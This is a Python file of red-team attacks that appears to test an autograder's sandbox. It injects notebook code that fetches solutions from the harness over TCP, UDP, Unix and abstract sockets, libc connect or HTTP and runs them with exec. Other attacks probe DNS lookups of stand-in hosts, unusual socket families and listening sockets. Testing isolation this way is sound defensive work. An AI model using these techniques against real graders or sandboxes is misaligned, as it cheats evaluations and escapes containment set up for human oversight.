"""Attacks that need somebody else: the harness offers the solutions by every way."""

from redteam.submission import attack


def _fetch(notebook, text):
    """Define ``fetch``; what it gives is run, and would be right."""
    notebook.fake()
    notebook.attack(
        text
        + """
    try:
        solutions = fetch()
        exec(solutions, globals())
        reached("the solutions, by a socket")
    except Exception as error:
        print(type(error), error)
    """,
        before="test-conv2d-forward",
    )
    for test in ("conv2d-layer", "max-pool2d-forward", "avg-pool2d-forward"):
        notebook.add('exec(globals().get("solutions", ""))', before=f"test-{test}")


@attack()
def connects_by_tcp(notebook, folder):
    _fetch(
        notebook,
        """
    import socket

    def fetch():
        with socket.create_connection(("127.0.0.1", TCP), timeout=2) as connection:
            return connection.makefile().read()
    """,
    )


@attack()
def connects_by_tcp_below_python(notebook, folder):
    """The C library's connect, on IPv6 as well."""
    _fetch(
        notebook,
        """
    import ctypes
    import os
    import socket
    import struct

    def fetch():
        libc = ctypes.CDLL(None, use_errno=True)
        descriptor = libc.socket(2, 1, 0)
        if descriptor < 0:
            raise OSError(ctypes.get_errno(), "socket")
        address = struct.pack("=HHI8x", 2, socket.htons(TCP), socket.htonl(0x7F000001))
        if libc.connect(descriptor, address, 16) < 0:
            raise OSError(ctypes.get_errno(), "connect")
        return os.fdopen(descriptor).read()
    """,
    )


@attack()
def asks_by_udp(notebook, folder):
    _fetch(
        notebook,
        """
    import socket

    def fetch():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asking:
            asking.settimeout(2)
            asking.sendto(b"?", ("127.0.0.1", UDP))
            return asking.recv(1 << 16).decode()
    """,
    )


@attack()
def connects_to_a_socket_file(notebook, folder):
    _fetch(
        notebook,
        """
    import socket

    def fetch():
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2)
            connection.connect(UNIX)
            return connection.makefile().read()
    """,
    )


@attack()
def connects_to_an_abstract_socket(notebook, folder):
    _fetch(
        notebook,
        """
    import socket

    def fetch():
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(2)
            connection.connect(chr(0) + ABSTRACT)
            return connection.makefile().read()
    """,
    )


@attack()
def uses_the_inherited_sockets_to_connect(notebook, folder):
    """Connects a socket that it was given to the harness's."""
    _fetch(
        notebook,
        """
    import os
    import socket

    def fetch():
        for descriptor in range(3, 64):
            for address in (UNIX, chr(0) + ABSTRACT, ("127.0.0.1", TCP)):
                try:
                    connection = socket.socket(fileno=os.dup(descriptor))
                    connection.connect(address)
                    return connection.makefile().read()
                except OSError as error:
                    last = error
        raise last
    """,
    )


@attack()
def downloads(notebook, folder):
    _fetch(
        notebook,
        """
    import urllib.request

    def fetch():
        with urllib.request.urlopen(f"http://127.0.0.1:{TCP}/", timeout=2) as page:
            return page.read().decode()
    """,
    )


@attack()
def resolves_names(notebook, folder):
    """Data leaves by names that are looked up."""
    notebook.fake()
    notebook.attack("""
        import socket
        for name in ("redteam.example.com", "localhost.example.org"):
            try:
                print(socket.getaddrinfo(name, 80))
                reached("the resolver")
            except OSError as error:
                print(error)
    """)


@attack()
def opens_odd_sockets(notebook, folder):
    """Raw packets, netlink, the kernel's ciphers, vsock, Bluetooth."""
    notebook.fake()
    notebook.attack("""
        import socket
        for family, kind, protocol in ((16, 3, 0), (17, 3, 768), (2, 3, 1), (38, 5, 0),
                                       (40, 1, 0), (31, 3, 1), (2, 1, 0), (10, 1, 0),
                                       (2, 2, 0), (1, 1, 0), (44, 3, 0)):
            try:
                socket.socket(family, kind, protocol).close()
                print("family", family, "may be opened")
                if family in (17, 38):
                    reached(f"a socket of family {family}")
            except OSError as error:
                print(family, error)
    """)


@attack()
def listens(notebook, folder):
    """Waits for others to connect: the next submission, or the instructor."""
    notebook.fake()
    notebook.attack("""
        import socket
        for family, address in ((socket.AF_INET, ("0.0.0.0", 0)),
                                (socket.AF_UNIX, chr(0) + "redteam-listens")):
            try:
                server = socket.socket(family)
                server.bind(address)
                server.listen()
                print(server.getsockname())
            except OSError as error:
                print(error)
    """)


@attack()
def looks_for_a_listener(notebook, folder):
    """Asks for what ``listens`` would offer."""
    _fetch(
        notebook,
        """
    import socket

    def fetch():
        with socket.socket(socket.AF_UNIX) as connection:
            connection.settimeout(1)
            connection.connect(chr(0) + "redteam-listens")
            return "raise SystemExit"
    """,
    )
